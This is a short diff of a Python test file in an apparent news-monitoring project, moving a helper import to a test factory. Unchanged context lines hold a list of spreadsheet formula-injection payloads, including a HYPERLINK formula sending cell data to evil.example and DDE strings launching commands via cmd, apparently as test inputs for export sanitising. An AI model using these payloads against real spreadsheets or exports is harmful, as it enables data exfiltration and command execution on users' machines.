@@ -9,7 +9,7 @@ import pytest
 
 from newsmonitor.feeds.models import Outlet
 from newsmonitor.timelines.readmodels.rollups import refresh_for_articles
-from newsmonitor.timelines.sample import make_article
+from tests.support.factory import make_article
 
 HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
